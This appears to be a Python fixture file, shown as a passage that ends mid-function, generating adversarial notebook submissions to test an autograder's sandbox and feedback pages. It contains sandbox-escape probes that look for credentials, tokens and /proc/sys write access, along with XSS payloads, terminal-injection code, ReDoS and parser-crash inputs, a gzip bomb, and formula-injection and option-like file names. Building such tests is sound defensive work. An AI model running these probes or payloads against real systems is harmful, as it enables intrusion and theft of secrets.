"""Hostile and broken submissions, and honest ones that look odd: what the grader has to survive, as data.

``make(folder, notebook)`` writes one: folder is the student's, not there yet; notebook is a solved copy with the student's id.
It changes nothing else, but for names in ``BESIDE``, which it makes beside the folder. Whatever a trick runs, it runs when it
is graded, in the sandbox. Most stand in the first answer of 02_noise, worth 4 of 17 points by machine: 13 are left.

A *door* is an answer that is right only if it has found something that the sandbox should hold shut: 17 points say it is open.
"""

import base64
import copy
import gzip
import json
import os
import stat
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

NOISE, FINAL = "02_noise", "final_project"
FULL, REST = 17.0, 13.0  # points by machine of 02_noise: all, and without the first answer
FINAL_FULL, FINAL_REST = 15.0, 7.0  # of the project: all, and without the eight for the hidden pictures
FIRST, WORDS = "batch_noise", "why_clipping"
PICTURE = (  # one pixel
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk+A8AAQUBAScY42YAAAAASUVORK5CYII="
)


@dataclass(frozen=True)
class Trick:
    """name: the student's id too. most: the most points by machine that it may get, marked or not; None: it can't be marked,
    and has a row in problems.csv. why: what it tries, and where that is known from."""

    name: str
    assignment: str
    make: Callable[[Path, nbformat.NotebookNode], None]
    most: float | None
    why: str


TRICKS: list[Trick] = []
ODD: list[Trick] = []
BESIDE: set[str] = set()  # names of what a trick makes beside its own folder
KINDS: dict[str, list[str]] = {}  # kind → names, for the report


def add(kind, name, most, why, make, assignment=NOISE):
    KINDS.setdefault(kind, []).append(name)
    (ODD if kind == "odd" else TRICKS).append(Trick(name, assignment, make, most, why))


# How a submission is written


def text_of(notebook):
    """As JSON in ASCII: half a character (a lone surrogate) can be in it, NaN too."""
    return json.dumps(notebook, indent=1)


def put(folder, content, name="02_noise.ipynb"):
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return path


def cells(notebook):
    return {cell.metadata.nbgrader.grade_id: cell for cell in notebook.cells if "nbgrader" in cell.metadata}


def changed(edit, name="02_noise.ipynb"):
    """edit changes the notebook in place, or returns another thing to be written as JSON."""

    def make(folder, notebook):
        notebook = json.loads(json.dumps(notebook))
        put(folder, text_of(edit(notebook) or notebook), name)

    return make


def answer(source, question=FIRST, name="02_noise.ipynb"):
    """source stands in place of an answer; RIGHT in it is the right one."""

    def make(folder, notebook):
        cell = cells(notebook)[question]
        right = cell.source
        cell.source = (source(right) if callable(source) else source).replace("RIGHT", right)
        put(folder, text_of(notebook), name)

    return make


def door(source):
    """The right answer, if source leaves something true in ``found``."""
    return answer(f"found = []\n{source}\nprint('OPEN:', found)\nRIGHT\nif not found:\n    del batch_noise")


def words(text, extra=True):
    """In the written answer, and in a cell of its own."""

    def make(folder, notebook):
        cells(notebook)[WORDS].source = text
        if extra:
            notebook.cells.insert(4, new_markdown_cell(text))
        put(folder, text_of(notebook))

    return make


def more(*extra, at=6):
    """Further cells."""

    def make(folder, notebook):
        notebook.cells[at:at] = copy.deepcopy(extra)
        put(folder, text_of(notebook))

    return make


def printed(source):
    """The right answer, and a cell that prints or fails."""
    return more(new_code_cell(source))


def as_bytes(convert):
    return lambda folder, notebook: put(folder, convert(nbformat.writes(notebook).encode()))


def called(name):
    """The file has another name."""
    return lambda folder, notebook: put(folder, text_of(notebook), name)


def each_cell(notebook, edit):
    for cell in notebook["cells"]:
        edit(cell)


def tagged(tags):
    return lambda notebook: each_cell(notebook, lambda cell: cell["metadata"].update(tags=list(tags)))


def nbgrader_is(value):
    """The first answer's entry of nbgrader becomes something else; a function gets the old one."""

    def edit(notebook):
        for cell in notebook["cells"]:
            old = cell["metadata"].get("nbgrader", {})
            if old.get("grade_id") == FIRST:
                cell["metadata"]["nbgrader"] = value(old) if callable(value) else value

    return changed(edit)


# What the sandbox should hold shut

add(
    "doors",
    "sysopen",
    REST,
    "/proc/sys looks writable: whoever may write core_pattern runs programs as root outside. It only asks (os.access). "
    "bubblewrap mounts /proc as it is; runc makes proc/sys read-only (CVE-2019-5736's neighbours)",
    door("""import os
names = "kernel/core_pattern kernel/modprobe kernel/pid_max vm/overcommit_memory vm/drop_caches fs/file-max kernel/hostname"
found = [name for name in names.split() if os.access(f"/proc/sys/{name}", os.W_OK)]"""),
)
add(
    "doors",
    "sysmount",
    REST,
    "/proc/sys is no read-only mount and something in it looks writable (statvfs, os.access; nothing is written)",
    door("""import os
if not os.statvfs("/proc/sys").f_flag & os.ST_RDONLY:
    for top, _, files in os.walk("/proc/sys"):
        found += [f"{top}/{one}" for one in files if os.access(f"{top}/{one}", os.W_OK)][:3]"""),
)
add(
    "doors",
    "hardware",
    REST,
    "/sys, sysrq-trigger, irq or the kernel's memory can be opened: docker masks these (nothing is written)",
    door("""import os
writable = "sysrq-trigger irq/default_smp_affinity acpi/wakeup".split()
found = [one for one in writable if os.access(f"/proc/{one}", os.W_OK)]
for one in ("/proc/kcore", "/proc/kmsg", "/dev/kmsg", "/dev/mem"):
    try:
        os.close(os.open(one, os.O_RDONLY | os.O_NONBLOCK))
        found.append(one)
    except OSError:
        pass
found += os.listdir("/sys") if os.path.isdir("/sys") else []"""),
)
add(
    "doors",
    "rights",
    REST,
    "capabilities, set-uid programs that give some (NoNewPrivs 0), or a user namespace inside (--disable-userns)",
    door("""import ctypes, os, re
status = open("/proc/self/status").read()
found = [name for name, value in re.findall(r"(Cap(?:Eff|Prm|Amb|Inh)):\\s*(\\w+)", status) if int(value, 16)]
found += ["NoNewPrivs"] if re.search(r"NoNewPrivs:\\s*0", status) else []
pid = os.fork()
if pid == 0:
    os._exit(ctypes.CDLL(None).unshare(0x10000000) == 0)
found += ["unshare"] if os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) else []"""),
)
add(
    "doors",
    "terminal",
    REST,
    "pushes characters into the teacher's terminal (CVE-2017-5226, CVE-2023-28100), or finds other files left open",
    door("""import fcntl, os
for one in (*range(64), "/dev/tty", "/dev/console"):
    try:
        place = os.open(one, os.O_RDWR) if isinstance(one, str) else one
        target = os.readlink(f"/proc/self/fd/{place}")
    except OSError:
        continue
    if not target.startswith(("/dev/null", "pipe:", "/proc", "/tmp", "/usr", "anon_inode:", "socket:")):
        found.append(target)
    try:
        fcntl.ioctl(place, 0x5412, b"\\n")
        found.append(f"TIOCSTI on {target}")
    except OSError:
        pass"""),
)
add(
    "doors",
    "others",
    REST,
    "other programs in /proc, the teacher's environment, or the memory and the root of the sandbox's first process",
    door("""import ctypes, os
names = {"cmdline": ("grade.py", "ipykernel", "pytest"), "environ": ("TOKEN", "SECRET", "DENOISE_GRADING", "SSH_")}
for pid in [one for one in os.listdir("/proc") if one.isdigit()]:
    for file, words in names.items():
        try:
            text = open(f"/proc/{pid}/{file}").read()
        except OSError:
            continue
        found += [f"{pid} {word}" for word in words if word in text]
insides = ["/proc/1/cwd/home", *("/proc/1/root/" + end for end in ("etc/shadow", "home"))]
found += [one for one in insides if os.path.exists(one)]"""),
)
add(
    "doors",
    "masters",
    REST,
    "looks for masters, marks, other submissions and keys in every folder that can be read, and for hidden tests in memory",
    door("""import gc, os
ours = "marks.csv written.csv TEACHERS.md grade.py gradebook.db id_rsa .netrc shadow submission.py".split()
closed = ("/proc", "/sys", "/dev", "/usr/share", "/usr/lib")
for top, folders, files in os.walk("/"):
    folders[:] = [one for one in folders if os.path.join(top, one) not in closed and one != "site-packages"]
    found += [os.path.join(top, one) for one in files if one in ours or one.endswith("_noise.ipynb")]
mark = "HIDDEN " + "TESTS"
texts = [one for one in gc.get_objects() if isinstance(one, str) and mark in one]
found += ["memory" for one in texts if "gc.get" + "_objects" not in one][:1]"""),
)
add(
    "doors",
    "overwrite",
    REST,
    "the package, Python or the worker can be changed for the next submission; or a place has room for more than 100 MB",
    door("""import os, sys, denoise_utils
places = [denoise_utils.__file__, sys.executable, sys.modules["wire"].__file__]
places += [torch.__file__, "/usr/bin/env", "/etc/passwd"]
for place in places:
    if os.access(place, os.W_OK) and not os.statvfs(place).f_flag & os.ST_RDONLY:
        found.append(place)
for place in {line.split()[1] for line in open("/proc/self/mounts")}:
    try:
        room = os.statvfs(place)
    except OSError:
        continue
    writable = os.path.isdir(place) and os.access(place, os.W_OK) and not room.f_flag & os.ST_RDONLY
    if writable and room.f_bavail * room.f_frsize > 100e6:
        found.append(place)"""),
)

# Pictures and texts on the feedback page

add(
    "page",
    "brokenbase",
    FULL,
    "an attachment that is no base64",
    changed(
        lambda notebook: notebook["cells"].insert(
            3, new_markdown_cell("![a](attachment:a.png)", attachments={"a.png": {"image/png": "!!not base64!!"}})
        )
    ),
)
add(
    "page",
    "manymissing",
    FULL,
    "5,000 pictures whose attachments are not there, in words and code: nbconvert raises for the first (nbconvert's "
    "InvalidNotebook 'missing attachment', mkdocs-jupyter #40)",
    words("![image.png](attachment:image.png) " * 5_000),
)
add(
    "page",
    "attachmentlist",
    FULL,
    "attachments as a list, where a dictionary is expected",
    changed(lambda notebook: notebook["cells"][0].update(attachments=[1, "a"])),
)
add(
    "page",
    "svgattached",
    FULL,
    "an SVG with a script, attached as a picture",
    changed(
        lambda notebook: notebook["cells"].insert(
            3,
            new_markdown_cell(
                "![a](attachment:a.svg)",
                attachments={
                    "a.svg": {
                        "image/svg+xml": base64.b64encode(
                            b"<svg onload='alert(1)'><script>alert(2)</script></svg>"
                        ).decode()
                    }
                },
            ),
        )
    ),
)
SLOW = {
    "slowspaces": ("a" + " " * 200_000 + "b", "200,000 spaces inside a line: patterns such as \\s+$ are quadratic"),
    "slowbegin": (
        "\\begin{a}" * 20_000,
        r"\begin without \end, in nbconvert's formulas: each looks for its end to the end",
    ),
    "slowbackslash": ("\\\\[" * 13_000, "two backslashes and a bracket, 13,000 times, in nbconvert's formulas"),
    "slowtitle": ('[]( "' * 60_000, "O(n³) in mistune 0.8 (#191); LINK_TITLE_RE once more in 3.2.0"),
    "deepstars": ("*a **b " * 3_000 + "c** d*" * 3_000, "emphasis 6,000 deep: GHSA-6m44-fpc8-c3rq, a RecursionError"),
    "deeplist": ("".join("  " * i + "- a\n" for i in range(900)), "a list 900 deep"),
    "slowtable": ("|a" * 2_000 + "\n" + "|-" * 2_000 + "\n" + ("|b" * 2_000 + "\n") * 60, "a table of 120,000 cells"),
}
for _name, (_text, _why) in SLOW.items():
    add("markdown", _name, FULL, f"slow to set: {_why}", words(_text))
MANY = ["[" * 50_000, "[a](" * 50_000, "**a *b " * 20_000, "<" * 200_000, "<!-- <![CDATA[ <? " * 20_000, "&" * 100_000]
MANY += [
    " ".join("`" * i for i in range(1, 900)),
    ">" * 40_000 + " a",
    "$a " * 50_000 + "$$",
    "~" * 300_000,
    "![a](attachment:" * 9_000,
]
MANY += ["[a]: b\n" * 20_000 + "[a]" * 9_000, "a\n" * 20_000 + "===\n", "[^1]: " * 9_000]
add(
    "markdown",
    "slowmany",
    FULL,
    "all others that are known to be slow in one parser or another (CVE-2022-34749, marked #1463)",
    more(*map(new_markdown_cell, MANY)),
)
ACTIVE = """<script>document.title = "owned"</script><img src=x onerror=alert(1)><iframe src="javascript:alert(2)"></iframe>
<svg onload=alert(3)><a xlink:href="javascript:alert(4)">a</a></svg> [click](javascript:alert(5))
[d](data:text/html;base64,PHNj)
<meta http-equiv=refresh content="0;url=http://a.b"><base href="http://a.b/"><link rel=stylesheet href="http://a.b/c.css">
<object data="data:text/html,a"></object><embed src="data:text/html,a"><form action="http://a.b"><button>Send</button></form>
<math><mtext><table><mglyph><style><img src=x onerror=alert(6)></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=alert(7)>">"""
add("page", "active", FULL, "all that could run or load something on the page, in words", words(ACTIVE))
add(
    "page",
    "activeprint",
    FULL,
    "the same, printed, and as an error's name and text",
    printed(f"print({ACTIVE!r})\nraise ValueError({ACTIVE!r})"),
)
add(
    "page",
    "activename",
    FULL,
    "an error's class has HTML for its name",
    printed(f"raise type({ACTIVE!r}, (Exception,), {{}})({ACTIVE!r})"),
)
add(
    "page",
    "activeshow",
    FULL,
    "HTML, JavaScript, SVG, LaTeX and a widget as rich outputs: CVE-2021-32862, CVE-2026-44727",
    printed(f"""from IPython.display import HTML, Javascript, SVG, Latex, Markdown, display
display(HTML({ACTIVE!r}), Javascript("alert(1)"), Latex("$\\\\href{{javascript:alert(1)}}{{a}}$"), Markdown({ACTIVE!r}))
widget = {{"application/vnd.jupyter.widget-view+json": {{"model_id": "a"}}}}
display(widget | {{"text/html": {ACTIVE!r}, "image/svg+xml": {ACTIVE!r}}}, raw=True)
display({{"image/png": '"><script>alert(1)</script>', "text/plain": "a"}}, raw=True)"""),
)
add(
    "page",
    "covers",
    FULL,
    "a style that hides the page's points and writes others over them",
    words(
        '<style>body *{display:none} ul:first-of-type{display:none}</style><div style="position:fixed;top:0;left:0;width:100%;'
        'height:100%;background:#fff;z-index:9999"><h1>02 noise: 20 of 20</h1></div>'
    ),
)
add(
    "page",
    "endspage",
    FULL,
    "tags that the making of the page may look for: </ul>, <ol>, <head>, </html>, <title>",
    words("</ul><ol><li>Test cell</li></ol></body></html><head><title>a</title></head><ol>\n\n</ol>"),
)
add(
    "page",
    "olfirst",
    FULL,
    "prints and fails with <ol>, </ol>, <head>: what stands before them or after them could be lost",
    printed('print("<head><ol></ol></html>" * 3)\nraise ValueError("</li></ul><ol></ol><head>")'),
)
add(
    "page",
    "ansi",
    FULL,
    "escape sequences: clears the terminal, sets its title, rings, and colours that never end",
    printed(
        'print("\\x1b[2J\\x1b]0;owned\\x07\\x1b[31m" * 1000)\nraise ValueError("\\x1b[2J\\x1b]8;;http://a.b\\x07a")'
    ),
)
add(
    "page",
    "controls",
    FULL,
    "control characters, a bidirectional override, a byte-order mark, U+FFFF, in words and prints",
    words("".join(map(chr, range(32))) + "\u202e\u2066\ufeff\uffff\U0010ffff\x7f\x85\u2028 a"),
)
add(
    "page",
    "controlsprint",
    FULL,
    "the same, printed: lxml and XML refuse them",
    printed(
        'print("".join(map(chr, range(32))) + "\\u202e\\ufeff\\uffff\\x7f\\x85\\u2028")\nraise ValueError("\\x00\\x08\\uffff")'
    ),
)
add(
    "page",
    "slowcode",
    FULL,
    "cells whose colouring takes long: a.a.a..., parentheses, an open string (Pygments CVE-2021-27291)",
    more(
        new_code_cell('"""' + "\\" * 200_001),
        new_code_cell("a" + ".a" * 300_000),
        new_code_cell(("(" * 190 + ")" * 190 + "\n") * 5_000),
    ),
)

# Code that is hard to read

PARSE = {
    "fstring": (
        "def batch_noise():\n    return f'" + "{a}" * 80_000 + "'",
        "an f-string of 240 kB: quadratic before Python 3.12",
    ),
    "longfstring": ("a = f'" + "{a}" * 1_300_000 + "'", "an f-string of 4 MB: hours before Python 3.12"),
    "parentheses": ("(" * 100_000 + ")" * 100_000, "100,000 parentheses"),
    "shallow": (
        ("(" * 190 + "1" + ")" * 190 + "\n") * 5_000,
        "190 parentheses, which the parser still takes, 5,000 times",
    ),
    "dictionary": ("a = {" + ",".join(f"{i}: {i}" for i in range(250_000)) + "}", "a dictionary of 4 MB"),
    "magics": ("%time 1\n" * 5_000, "5,000 magics: IPython transforms one after the other, each over the whole cell"),
}
for _name, (_source, _why) in PARSE.items():
    add("parsing", _name, REST, f"slow to read: {_why}", answer(_source))
CRASH = [
    "a = 1" + "+0" * 200_000,
    "a" + "()" * 100_000,
    "a" + ".a" * 100_000,
    "a = " + "-" * 400_000 + "1",
    "a = " + "not " * 100_000,
]
CRASH += ["a = " + "lambda:" * 50_000 + "0", "if a:\n    b\n" + "elif a:\n    b\n" * 20_000, "a = " + "9" * 500_000]
CRASH += ["a = a" + "<a" * 200_000, "async " * 100_000, "f'" + "{f" * 5_000, '(x""f"\\\\{0}"<' * 176]
add(
    "parsing",
    "crashers",
    FULL,
    "sources that have ended Python's parser: CPython #95185, #86882, #153437, bpo-32758",
    more(*map(new_code_cell, CRASH)),
)
add(
    "parsing",
    "idsum",
    FULL,
    "the same in the cell of the id, which the grader reads itself: a crash would be its own",
    answer('student = "idsum"\na = 1' + "+0" * 200_000, "student"),
)
add(
    "parsing",
    "idfstring",
    FULL,
    "an f-string of 240 kB in the cell of the id",
    answer('student = "idfstring"\na = f"' + "{a}" * 80_000 + '"', "student"),
)
add("parsing", "nullbytes", REST, "a null byte in the code", answer("RIGHT\na = '\0'"))
add(
    "parsing",
    "coding",
    REST,
    "a coding cookie that does not fit, and another that is unknown",
    answer("# -*- coding: utf-7 -*-\n+AAo-\nimport nothing_like_this_\n"),
)

# Half a character (a lone surrogate): JSON can hold it, UTF-8 can't

HALF = "\ud800"
add("surrogates", "halfsource", REST, "half a character in the code", answer(f"a = '{HALF}'\n{HALF} = 1"))
add(
    "surrogates",
    "halfwords",
    FULL,
    "half a character in the written answer, and so in written.csv",
    words(f"a {HALF} b"),
)
add(
    "surrogates",
    "halfextra",
    FULL,
    "half a character in further cells, in what they print, raise and show, and in a grade_id",
    more(
        new_code_cell(f"print('{HALF}')"),
        new_markdown_cell(HALF),
        new_code_cell('print("a\\ud800")\nraise ValueError("\\udfff")'),
        new_code_cell(
            "1",
            metadata={"nbgrader": {"grade_id": HALF, "grade": True, "points": 9, "solution": False, "locked": False}},
        ),
    ),
)
add(
    "surrogates",
    "halferror",
    REST,
    "half a character as answer, in an error's text, and as the name of its class",
    answer("""calls = []
def batch_noise(*a):
    calls.append(1)
    if len(calls) % 3 == 0:
        return "\\ud800"
    raise (ValueError if len(calls) % 3 == 1 else type("\\ud800", (Exception,), {}))("\\ud800")"""),
)
add(
    "surrogates",
    "halfmetadata",
    FULL,
    "half a character in metadata and in an old output",
    changed(
        lambda notebook: (
            (
                notebook["metadata"].update(title=HALF),
                notebook["cells"][4].update(outputs=[new_output("stream", name="stdout", text=HALF)]),
            )
            and None
        )
    ),
)
add(
    "surrogates",
    "halfid",
    None,
    "half a character in the id that the notebook gives itself",
    answer(f'student = "{HALF}"', "student"),
)
# The notebook's own form

add("form", "manycells", FULL, "1,500 further cells", more(*[new_code_cell("1") for _ in range(1_500)]))
add(
    "form",
    "verymanycells",
    FULL,
    "20,000 further cells, all of them run",
    more(*[new_code_cell("0") for _ in range(20_000)]),
)
add(
    "form",
    "manytexts",
    FULL,
    "20,000 further cells of text",
    more(*[new_markdown_cell("- *a*") for _ in range(20_000)]),
)
add(
    "form",
    "oldoutputs",
    FULL,
    "an old output of 4 MB",
    changed(
        lambda notebook: notebook["cells"][4].update(
            outputs=[new_output("stream", name="stdout", text="a" * 4 * 2**20)]
        )
    ),
)
add(
    "form",
    "toolarge",
    None,
    "a notebook of 30 MB",
    changed(
        lambda notebook: notebook["cells"][4].update(
            outputs=[new_output("stream", name="stdout", text="a" * 30 * 2**20)]
        )
    ),
)
add(
    "form",
    "notanumber",
    FULL,
    "NaN and Infinity in the metadata: Python's json writes and reads them, others don't",
    changed(lambda notebook: notebook["metadata"].update(a=float("nan"), b=float("inf"))),
)
add(
    "form",
    "hugeminor",
    FULL,
    "nbformat_minor is 10**400",
    changed(lambda notebook: notebook.update(nbformat_minor=10**400)),
)
add(
    "form",
    "hugenumber",
    None,
    "a number of 5,000 digits: Python refuses to read it (CVE-2020-10735)",
    lambda folder, notebook: put(
        folder, text_of(notebook).replace('"nbformat_minor":', '"a": ' + "9" * 5_000 + ',\n "nbformat_minor":')
    ),
)
add(
    "form",
    "deep",
    None,
    "lists 100,000 deep: json raises RecursionError",
    lambda folder, notebook: put(
        folder,
        text_of(notebook).replace(
            '"nbformat_minor":', '"a": ' + "[" * 100_000 + "]" * 100_000 + ',\n "nbformat_minor":'
        ),
    ),
)
add(
    "form",
    "lessdeep",
    FULL,
    "lists 900 deep: json still reads them, copy.deepcopy and the schema may not",
    lambda folder, notebook: put(
        folder, text_of(notebook).replace('"metadata": {', '"metadata": {"a": ' + "[" * 900 + "]" * 900 + ",", 1)
    ),
)
add(
    "form",
    "sameids",
    FULL,
    "all cells have the same id, and counts that are texts",
    changed(
        lambda notebook: each_cell(
            notebook,
            lambda cell: cell.update(id="a", **({"execution_count": "first"} if cell["cell_type"] == "code" else {})),
        )
    ),
)
add(
    "form",
    "oddtype",
    None,
    "a cell of a type that does not exist in place of the answer",
    changed(
        lambda notebook: each_cell(
            notebook, lambda cell: FIRST in str(cell["metadata"]) and cell.update(cell_type="video")
        )
    ),
)
add("form", "formatfive", None, "nbformat 5", changed(lambda notebook: notebook.update(nbformat=5)))
add(
    "form",
    "formattwo",
    None,
    "nbformat 2, whose cells lie in worksheets",
    changed(
        lambda notebook: {
            "nbformat": 2,
            "metadata": {"name": "a"},
            "worksheets": [
                {
                    "cells": [
                        {"cell_type": "code", "input": "1", "language": "python", "outputs": [], "collapsed": False}
                    ],
                    "metadata": {},
                }
            ],
        }
    ),
)
add("form", "formattext", None, "nbformat is a text", changed(lambda notebook: notebook.update(nbformat="4")))
add(
    "form",
    "cellsdict",
    None,
    "cells is a dictionary",
    changed(lambda notebook: notebook.update(cells={str(i): cell for i, cell in enumerate(notebook["cells"])})),
)
add("form", "topnull", None, "the file says null", lambda folder, notebook: put(folder, "null"))
add("form", "toplist", None, "the file is a list", lambda folder, notebook: put(folder, "[1, 2]"))
add(
    "form",
    "twokeys",
    FULL,
    "cells is there twice: Python takes the last, others the first",
    lambda folder, notebook: put(folder, text_of(notebook).replace('{\n "cells"', '{\n "cells": [],\n "cells"', 1)),
)
add(
    "form",
    "sourcelists",
    None,
    "source holds numbers and lists",
    changed(lambda notebook: notebook["cells"][6].update(source=["a", 1, [2]])),
)
add("form", "sourcenull", None, "source is null", changed(lambda notebook: notebook["cells"][6].update(source=None)))
add(
    "form",
    "metadatanull",
    None,
    "all metadata are null",
    changed(lambda notebook: each_cell(notebook, lambda cell: cell.update(metadata=None))),
)
add("form", "nothing", None, "an empty file", lambda folder, notebook: put(folder, b""))
add("form", "half", None, "half a file, as a broken upload leaves it", as_bytes(lambda text: text[: len(text) // 2]))
add("form", "zipped", None, "gzip under the notebook's name", as_bytes(gzip.compress))
add(
    "form",
    "gzipbomb",
    None,
    "a gzip of 4 GB of zeros: 4 MB, not unpacked",
    lambda folder, notebook: put(folder, gzip.compress(bytes(2**22)) * 100),
)
add(
    "form",
    "latin",
    None,
    "Latin-1, not UTF-8",
    as_bytes(lambda text: text.decode().encode("latin-1", "replace") + b"\xff"),
)
add(
    "form",
    "webpage",
    None,
    "a web page saved as .ipynb: what a login page leaves",
    lambda folder, notebook: put(folder, "<!DOCTYPE html><html><body>Sign in</body></html>"),
)

# nbgrader's own metadata

add("nbgrader", "idlist", None, "grade_id is a list", nbgrader_is(lambda old: old | {"grade_id": [FIRST]}))
add("nbgrader", "nbtext", None, "metadata.nbgrader is a text", nbgrader_is(FIRST))
add("nbgrader", "nbnull", None, "metadata.nbgrader is null", nbgrader_is(None))
add("nbgrader", "nblist", None, "metadata.nbgrader is a list", nbgrader_is([1]))
add("nbgrader", "nbempty", None, "metadata.nbgrader is empty: a copy without its id (nbgrader #424)", nbgrader_is({}))
add(
    "nbgrader",
    "manypoints",
    FULL,
    "points are 1000 on all cells, and 1e9 as a text",
    changed(
        lambda notebook: each_cell(
            notebook,
            lambda cell: (
                cell["metadata"].get("nbgrader", {}).update(points="1e9" if "check" in str(cell["metadata"]) else 1000)
            ),
        )
    ),
)
add(
    "nbgrader",
    "answersgrade",
    FULL,
    "the answers are graded cells with points: each worth 100",
    changed(
        lambda notebook: each_cell(
            notebook,
            lambda cell: (
                cell["metadata"].get("nbgrader", {}).update(grade=True, solution=True, locked=False, points=100)
            ),
        )
    ),
)
add(
    "nbgrader",
    "newtest",
    FULL,
    "a further test cell and a task, of 1000 points each",
    more(
        new_markdown_cell(
            "a",
            metadata={
                "nbgrader": {
                    "grade": True,
                    "grade_id": "bonus",
                    "locked": False,
                    "points": 1000,
                    "schema_version": 3,
                    "solution": False,
                    "task": True,
                }
            },
        ),
        new_code_cell(
            "1000",
            metadata={
                "nbgrader": {
                    "grade": True,
                    "grade_id": "bonus_check",
                    "locked": True,
                    "points": 1000,
                    "schema_version": 3,
                    "solution": False,
                    "task": False,
                }
            },
        ),
    ),
)
add(
    "nbgrader",
    "oldschema",
    FULL,
    "schema_version 1, which nbgrader wants to be updated first",
    changed(
        lambda notebook: each_cell(notebook, lambda cell: cell["metadata"].get("nbgrader", {}).update(schema_version=1))
    ),
)
add(
    "nbgrader",
    "checksums",
    FULL,
    "checksums that fit nothing",
    changed(
        lambda notebook: each_cell(
            notebook, lambda cell: cell["metadata"].get("nbgrader", {}).update(checksum="0" * 32)
        )
    ),
)


def _twice(notebook):
    copies = [copy.deepcopy(cell) for cell in notebook["cells"] if FIRST in str(cell["metadata"])]
    notebook["cells"] += [cell | {"id": f"copy-{i}"} for i, cell in enumerate(copies)]


def _bad_then_copies(notebook):
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == FIRST:
            cell["source"] = "batch_noise = lambda *a: None"
        elif f"{FIRST}_" in str(cell["metadata"]):
            cell["source"] = "2"
            cell["metadata"]["tags"] = ["skip-execution", "raises-exception", "remove-cell", "hide-input", "parameters"]


def _without(*ids):
    def edit(notebook):
        notebook["cells"] = [
            c for c in notebook["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") not in ids
        ]

    return changed(edit)


add(
    "nbgrader", "twice", None, "the cells of the first question are there twice (nbgrader #108, #1083)", changed(_twice)
)
add(
    "nbgrader",
    "changedtests",
    REST,
    "tests that give full points, with tags that skip them, and a wrong answer",
    changed(_bad_then_copies),
)
add(
    "nbgrader",
    "notests",
    FULL,
    "all of the first question's tests are deleted",
    _without(f"{FIRST}_check", f"{FIRST}_hidden"),
)
add("nbgrader", "noanswer", None, "the first answer is deleted", _without(FIRST))
add("nbgrader", "nocells", None, "all cells are deleted", changed(lambda notebook: notebook.update(cells=[])))
add("nbgrader", "nowords", None, "the written answer is deleted", _without(WORDS))
add("nbgrader", "noset", FULL, "the set-up cell is deleted, which says nothing about the answers", _without("set_up"))
add(
    "nbgrader",
    "backwards",
    FULL,
    "all cells in the opposite order",
    changed(lambda notebook: notebook["cells"].reverse()),
)
add(
    "nbgrader",
    "swapped",
    FULL,
    "the first answer has the second one's grade_id, and the other way round",
    changed(
        lambda notebook: each_cell(
            notebook,
            lambda cell: (
                cell["metadata"]
                .get("nbgrader", {})
                .update(
                    grade_id={FIRST: "two_psnrs", "two_psnrs": FIRST}.get(
                        i := cell["metadata"].get("nbgrader", {}).get("grade_id"), i
                    )
                )
            ),
        )
    ),
)
add(
    "nbgrader",
    "rawcells",
    FULL,
    "all code cells are raw",
    changed(
        lambda notebook: each_cell(
            notebook, lambda cell: cell.update(cell_type="raw") if cell["cell_type"] == "code" else None
        )
    ),
)
add(
    "nbgrader",
    "textcode",
    FULL,
    "an answer became a text by the key M (nbgrader #1941)",
    changed(
        lambda notebook: each_cell(
            notebook, lambda cell: cell.update(cell_type="markdown") if cell["cell_type"] == "code" else None
        )
    ),
)
add(
    "nbgrader",
    "codetext",
    FULL,
    "the written answer became code that prints a mark",
    changed(
        lambda notebook: each_cell(
            notebook,
            lambda cell: (
                WORDS in str(cell["metadata"])
                and cell.update(cell_type="code", source="print(3)\n3", outputs=[], execution_count=None)
            ),
        )
    ),
)
add(
    "nbgrader",
    "skipsall",
    FULL,
    "every cell has such tags",
    changed(tagged(["skip-execution", "raises-exception", "parameters", "injected-parameters", "remove_cell"])),
)
add(
    "nbgrader",
    "kernel",
    FULL,
    "another kernel, whose name is a path, with a program to start; the language is R",
    changed(
        lambda notebook: notebook["metadata"].update(
            kernelspec={"name": "../../tmp/evil", "display_name": "a", "argv": ["/bin/true"], "language": "R"},
            language_info={"name": "R", "pygments_lexer": "scala", "file_extension": "/../../x"},
        )
    ),
)
add(
    "nbgrader",
    "widgets",
    FULL,
    "the state of widgets, with a script in it: CVE-2021-32862",
    changed(
        lambda notebook: notebook["metadata"].update(
            widgets={"application/vnd.jupyter.widget-state+json": {"a": "</script><script>alert(1)</script>"}},
            title="<script>alert(1)</script>",
            authors=[{"name": "</title><script>"}],
        )
    ),
)
add(
    "nbgrader",
    "widgetslist",
    FULL,
    "the state of widgets is a list: nbconvert expects a dictionary",
    changed(lambda notebook: notebook["metadata"].update(widgets=[1])),
)
add(
    "nbgrader",
    "rawhtml",
    FULL,
    "raw cells of HTML and LaTeX",
    more(
        new_raw_cell("<script>alert(1)</script>", metadata={"raw_mimetype": "text/html"}),
        new_raw_cell("\\input{/etc/passwd}", metadata={"format": "text/latex"}),
    ),
)

# Names of files and folders

EVIL = {
    "escape": "02_noise\n\r\x1b[2J\x1b]0;a\x07\u202e.ipynb",
    "longname": "02_noise" + "a" * 240 + ".ipynb",
    "formulaname": "=cmd|' |C calc'!A0 <img src=x onerror=alert(1)>%s{0.__class__}`id` 02_noise.ipynb",
    "dash": "--help 02_noise.ipynb",
    "notutf": os.fsdecode(b"02_noise\xff\xfe.ipynb"),
}
for _name, _file in EVIL.items():
    add("names", _name, FULL, f"the file's name: {ascii(_file)[:60]}", called(_file))
FOLDERS = [
    os.fsdecode(b"caf\xe9"),
    "a\nb\x1b[2J",
    "=cmd|' C calc'!A0",
    "-rf",
    "a\u202eb",
    "a" * 255,
    "<b onmouseover=alert(1)>",
    " ",
    "@SUM(1)",
    "Teacher",
]
BESIDE.update(FOLDERS)


def _folders(folder, notebook):
    put(folder, text_of(notebook))
    for name in FOLDERS:
        put(folder.parent / name, text_of(notebook))


add(
    "names",
    "folders",
    FULL,
    "ten other students' folders: no UTF-8, ANSI, a formula, an option, HTML, 255 letters, a space, 'Teacher'",
    _folders,
)


def _device(kind):
    def make(folder, notebook):
        folder.mkdir(parents=True)
        if kind == "fifo":
